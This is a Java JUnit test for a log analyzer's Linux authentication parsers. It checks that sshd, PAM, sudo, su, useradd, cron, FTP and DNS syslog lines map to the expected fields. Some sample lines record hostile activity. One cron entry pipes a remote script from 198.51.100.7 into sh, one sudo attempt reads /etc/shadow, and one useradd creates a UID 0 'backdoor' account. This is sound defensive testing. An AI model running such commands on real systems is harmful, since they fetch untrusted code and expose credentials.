package vn.soctinh.analyzer.parse.linux;

import static vn.soctinh.analyzer.parse.ParsedLines.assertFields;

import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** sshd, PAM, sudo, su and account management lines, through the whole parse path, with the fields each must give. */
class LinuxAuthParsersTest {

  static Stream<Arguments> lines() {
    return Stream.of(
        row("<38>Nov 23 10:00:01 web-01 sshd[2101]: Accepted password for bob from 10.10.1.5 port 52344 ssh2",
            "event.action=ssh_login", "event.outcome=success", "event.category=[authentication]", "event.type=[start]",
            "event.dataset=system.auth", "user.name=bob", "source.ip=10.10.1.5", "source.port=52344", "labels.ssh_method=password",
            "process.name=sshd", "process.pid=2101"),
        row("<38>Nov 23 10:00:01 web-01 sshd[2101]: Accepted publickey for deploy from 2001:db8::7 port 40022 ssh2: ED25519 SHA256:q0RmLk3bQ4nZ7c2X",
            "event.action=ssh_login", "user.name=deploy", "source.ip=2001:db8::7", "source.port=40022", "labels.ssh_method=publickey",
            "labels.ssh_key_type=ED25519", "labels.ssh_key_fingerprint=SHA256:q0RmLk3bQ4nZ7c2X"),
        row("<38>Nov 23 10:00:01 web-01 sshd[2101]: Accepted keyboard-interactive/pam for an from 10.0.0.9 port 1 ssh2",
            "event.action=ssh_login", "labels.ssh_method=keyboard-interactive/pam", "user.name=an"),
        row("Dec 10 07:07:38 LabSZ sshd[24206]: Failed password for invalid user test9 from 52.80.34.196 port 36060 ssh2",
            "event.action=ssh_login_failed", "event.outcome=failure", "event.reason=invalid user", "user.name=test9",
            "source.ip=52.80.34.196", "source.port=36060", "host.hostname=LabSZ"),
        row("Dec 10 09:32:20 LabSZ sshd[24680]: Failed password for root from 5.36.59.76 port 42393 ssh2",
            "event.action=ssh_login_failed", "user.name=root", "event.reason=-"),
        row("Dec 10 06:55:46 LabSZ sshd[24200]: Failed none for invalid user 0 from 103.99.0.122 port 57876 ssh2",
            "event.action=ssh_login_failed", "labels.ssh_method=none", "user.name=0"),
        row("Dec 10 06:55:46 LabSZ sshd[24200]: Invalid user webmaster from 173.234.31.186",
            "event.action=ssh_invalid_user", "event.outcome=failure", "user.name=webmaster", "source.ip=173.234.31.186"),
        row("<38>Nov 23 10:00:01 h sshd[1]: Invalid user admin from 203.0.113.5 port 4242",
            "event.action=ssh_invalid_user", "user.name=admin", "source.port=4242"),
        row("Dec 10 06:55:46 LabSZ sshd[24200]: input_userauth_request: invalid user webmaster [preauth]",
            "event.action=ssh_invalid_user", "user.name=webmaster", "labels.preauth=true"),
        row("Dec 10 06:55:48 LabSZ sshd[24200]: Received disconnect from 173.234.31.186: 11: Bye Bye [preauth]",
            "event.action=ssh_disconnect", "source.ip=173.234.31.186", "labels.ssh_disconnect_code=11", "event.reason=Bye Bye",
            "event.category=[network]", "event.type=[end]"),
        row("Dec 10 09:12:35 LabSZ sshd[24492]: error: Received disconnect from 112.95.230.3: 3: com.jcraft.jsch.JSchException: Auth fail [preauth]",
            "event.action=ssh_disconnect", "labels.ssh_disconnect_code=3", "event.reason=com.jcraft.jsch.JSchException: Auth fail"),
        row("<38>Nov 23 10:00:01 h sshd[1]: Disconnected from authenticating user root 203.0.113.5 port 4242 [preauth]",
            "event.action=ssh_disconnect", "user.name=root", "source.ip=203.0.113.5", "source.port=4242"),
        row("<38>Nov 23 10:00:01 h sshd[1]: Connection closed by invalid user oracle 198.51.100.2 port 5050 [preauth]",
            "event.action=ssh_connection_closed", "user.name=oracle", "event.reason=invalid user", "source.ip=198.51.100.2"),
        row("Dec 10 11:03:44 LabSZ sshd[25455]: Connection closed by 212.47.254.145 [preauth]",
            "event.action=ssh_connection_closed", "source.ip=212.47.254.145", "labels.preauth=true"),
        row("Dec 10 10:56:56 LabSZ sshd[25430]: Did not receive identification string from 191.210.223.172",
            "event.action=ssh_no_identification", "source.ip=191.210.223.172", "event.outcome=failure"),
        row("<38>Nov 23 10:00:01 h sshd[1]: Bad protocol version identification 'GET / HTTP/1.1' from 203.0.113.9 port 60000",
            "event.action=ssh_bad_protocol", "source.ip=203.0.113.9", "source.port=60000"),
        row("Dec 10 06:55:46 LabSZ sshd[24200]: reverse mapping checking getaddrinfo for ns.marryaldkfaczcz.com [173.234.31.186] failed - POSSIBLE BREAK-IN ATTEMPT!",
            "event.action=ssh_reverse_mapping_failed", "source.ip=173.234.31.186", "source.domain=ns.marryaldkfaczcz.com"),
        row("<38>Nov 23 10:00:01 h sshd[1]: Address 198.51.100.3 maps to evil.example, but this does not map back to the address - POSSIBLE BREAK-IN ATTEMPT!",
            "event.action=ssh_reverse_mapping_mismatch", "source.ip=198.51.100.3", "source.domain=evil.example"),
        row("<38>Nov 23 10:00:01 h sshd[1]: error: maximum authentication attempts exceeded for invalid user admin from 203.0.113.5 port 4242 ssh2 [preauth]",
            "event.action=ssh_max_auth_attempts", "user.name=admin", "source.ip=203.0.113.5", "event.reason=invalid user"),
        row("Dec 10 11:04:25 LabSZ sshd[25539]: Disconnecting: Too many authentication failures for root [preauth]",
            "event.action=ssh_max_auth_attempts", "user.name=root"),
        row("Dec 10 09:32:20 LabSZ sshd[24680]: message repeated 5 times: [ Failed password for root from 5.36.59.76 port 42393 ssh2]",
            "event.action=ssh_login_failed", "user.name=root", "source.ip=5.36.59.76", "labels.repeat_count=5"),
        row("Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=173.234.31.186  user=root",
            "event.action=authentication_failure", "event.outcome=failure", "service.name=sshd", "labels.pam_module=pam_unix",
            "source.ip=173.234.31.186", "user.name=root"),
        row("Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=ec2-52-80-34-196.cn-north-1.compute.amazonaws.com.cn ",
            "event.action=authentication_failure", "source.domain=ec2-52-80-34-196.cn-north-1.compute.amazonaws.com.cn", "source.ip=-",
            "user.name=-"),
        row("Dec 10 06:55:46 LabSZ sshd[24200]: pam_unix(sshd:auth): check pass; user unknown",
            "event.action=authentication_failure", "event.reason=user unknown"),
        row("Dec 10 07:51:15 LabSZ sshd[24324]: PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost=183.62.140.253  user=root",
            "event.action=authentication_failures_repeated", "labels.repeat_count=5", "user.name=root", "source.ip=183.62.140.253"),
        row("Dec 10 07:51:15 LabSZ sshd[24324]: PAM service(sshd) ignoring max retries; 6 > 3",
            "event.action=max_retries_exceeded", "service.name=sshd"),
        row("<86>Nov 23 10:00:01 h sshd[1]: pam_unix(sshd:session): session opened for user bob(uid=1000) by (uid=0)",
            "event.action=session_opened", "event.category=[session]", "event.type=[start]", "user.name=bob(uid=1000)"),
        row("Jun 14 15:16:01 combo sshd(pam_unix)[19939]: authentication failure; logname= uid=0 euid=0 tty=NODEVssh ruser= rhost=218.188.2.4 ",
            "event.action=authentication_failure", "service.name=sshd", "source.ip=218.188.2.4", "process.name=sshd(pam_unix)"),
        row("Jun 15 04:06:18 combo su(pam_unix)[21416]: session opened for user cyrus by (uid=0)",
            "event.action=session_opened", "service.name=su", "user.name=cyrus"),
        row("Jun 15 04:06:19 combo su(pam_unix)[21416]: session closed for user cyrus",
            "event.action=session_closed", "event.type=[end]", "user.name=cyrus"),
        row("<85>Nov 23 10:00:01 h sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id -u",
            "event.action=sudo_command", "event.outcome=success", "user.name=alice", "user.effective.name=root",
            "process.command_line=/usr/bin/id -u", "process.executable=/usr/bin/id", "process.name=id",
            "process.working_directory=/home/alice", "labels.tty=pts/0", "event.category=[process, authentication]"),
        row("<85>Nov 23 10:00:01 h sudo:    alice : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash",
            "event.action=sudo_authentication_failed", "event.outcome=failure", "event.reason=3 incorrect password attempts",
            "process.command_line=/bin/bash"),
        row("<85>Nov 23 10:00:01 h sudo:    mallory : user NOT in sudoers ; TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/bin/cat /etc/shadow",
            "event.action=sudo_not_permitted", "user.name=mallory", "process.command_line=/bin/cat /etc/shadow"),
        row("<85>Nov 23 10:00:01 h sudo: pam_unix(sudo:auth): authentication failure; logname=alice uid=1000 euid=0 tty=/dev/pts/0 ruser=alice rhost=  user=alice",
            "event.action=authentication_failure", "service.name=sudo", "user.name=alice"),
        row("<37>Nov 23 10:00:01 h su[99]: FAILED SU (to root) alice on pts/0",
            "event.action=su_failed", "event.outcome=failure", "user.name=alice", "user.target.name=root", "labels.tty=pts/0"),
        row("<37>Nov 23 10:00:01 h su[99]: (to root) alice on pts/0",
            "event.action=su", "event.outcome=success", "user.name=alice", "user.target.name=root"),
        row("<37>Nov 23 10:00:01 h su[99]: Successful su for root by alice",
            "event.action=su", "user.name=alice", "user.target.name=root"),
        row("<37>Nov 23 10:00:01 h su[99]: + pts/0 alice:root", "event.action=su", "user.name=alice", "user.target.name=root"),
        row("<37>Nov 23 10:00:01 h su[99]: - pts/0 alice:root", "event.action=su_failed", "user.name=alice"),
        row("<86>Nov 23 10:00:01 h useradd[300]: new user: name=backdoor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/1",
            "event.action=user_created", "event.category=[iam]", "event.type=[user, creation]", "user.target.name=backdoor",
            "user.target.id=0", "group.id=0", "labels.shell=/bin/bash"),
        row("<86>Nov 23 10:00:01 h useradd[300]: new group: name=bob, GID=1001", "event.action=group_created", "group.name=bob", "group.id=1001"),
        row("<86>Nov 23 10:00:01 h usermod[301]: add 'bob' to group 'sudo'",
            "event.action=user_added_to_group", "user.target.name=bob", "group.name=sudo", "event.type=[group, change]"),
        row("<86>Nov 23 10:00:01 h usermod[301]: add 'bob' to shadow group 'sudo'", "event.action=user_added_to_group", "group.name=sudo"),
        row("<86>Nov 23 10:00:01 h userdel[302]: delete user 'bob'", "event.action=user_deleted", "user.target.name=bob"),
        row("<86>Nov 23 10:00:01 h groupdel[303]: group 'dev' removed", "event.action=group_deleted", "group.name=dev"),
        row("<86>Nov 23 10:00:01 h passwd[304]: pam_unix(passwd:chauthtok): password changed for bob",
            "event.action=password_changed", "user.target.name=bob", "service.name=passwd"),
        row("<86>Nov 23 10:00:01 h usermod[305]: lock user 'bob' password", "event.action=user_locked", "user.target.name=bob"),
        row("<86>Nov 23 10:00:01 h chage[306]: changed password expiry for bob", "event.action=password_expiry_changed"),
        row("<78>Nov 23 10:00:01 h CRON[4242]: (root) CMD (curl -s http://198.51.100.7/x.sh | sh)",
            "event.action=cron_command", "user.name=root", "process.command_line=curl -s http://198.51.100.7/x.sh | sh",
            "event.dataset=system.cron"),
        row("Jun 17 07:07:00 combo ftpd[29504]: connection from 24.54.76.216 (24-54-76-216.bflony.adelphia.net) at Fri Jun 17 07:07:00 2005 ",
            "event.action=ftp_connection", "source.ip=24.54.76.216", "source.domain=24-54-76-216.bflony.adelphia.net", "event.dataset=ftp.log"),
        row("Jul 10 03:55:15 combo ftpd[12487]: ANONYMOUS FTP LOGIN FROM 84.102.20.2,  (anonymous)",
            "event.action=ftp_anonymous_login", "source.ip=84.102.20.2", "user.name=anonymous"),
        row("<30>Nov 23 10:00:01 h vsftpd[77]: [bob] FAIL LOGIN: Client \"203.0.113.5\"",
            "event.action=ftp_login_failed", "user.name=bob", "source.ip=203.0.113.5"),
        row("Jun  9 06:06:20 combo klogind[19272]: Authentication failed from 163.27.3.6 (163.27.3.6): Software caused connection abort ",
            "event.action=kerberos_login_failed", "source.ip=163.27.3.6", "event.reason=Software caused connection abort"),
        row("Jun 11 04:03:55 combo logrotate: ALERT exited abnormally with [1]", "event.action=logrotate_failed", "event.outcome=failure"),
        row("Jun 19 04:09:11 combo syslogd 1.4.1: restart.", "event.action=syslog_restarted", "service.name=syslogd"),
        row("Jul 27 14:41:58 combo rc: Starting pcmcia:  succeeded", "event.action=service_started", "service.name=pcmcia"),
        row("Jun 15 12:12:34 combo cups: cupsd shutdown succeeded", "event.action=service_stopped", "service.name=cupsd"),
        row("Jul 27 14:42:00 combo named[2306]: client 203.0.113.9#5353: zone transfer 'example.vn/AXFR/IN' denied",
            "event.action=dns_zone_transfer_denied", "source.ip=203.0.113.9", "source.port=5353", "dns.question.name=example.vn"));
  }

  private static Arguments row(String line, String... expected) {
    return Arguments.of(line, expected);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("lines")
  void eachLineGivesItsFields(String line, String[] expected) {
    assertFields(line, expected);
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("unknown")
  void aLineOfAKnownProgramThatNoRuleKnowsStaysUnparsedWithTheReason(String line, String reason) {
    assertFields(line, "tags=[_unparsed]", "event.action=-", "error.message=" + reason);
  }

  static Stream<Arguments> unknown() {
    return Stream.of(
        Arguments.of("<38>Nov 23 10:00:01 h sshd[1]: something sshd never said", "sshd: not a known sshd message"),
        Arguments.of("<85>Nov 23 10:00:01 h sudo: no colon separator here", "sudo: expected \"USER : ... ; COMMAND=...\""),
        Arguments.of("<86>Nov 23 10:00:01 h useradd[1]: failed adding user 'x', data deleted", "useradd: not a known account management message"));
  }
}
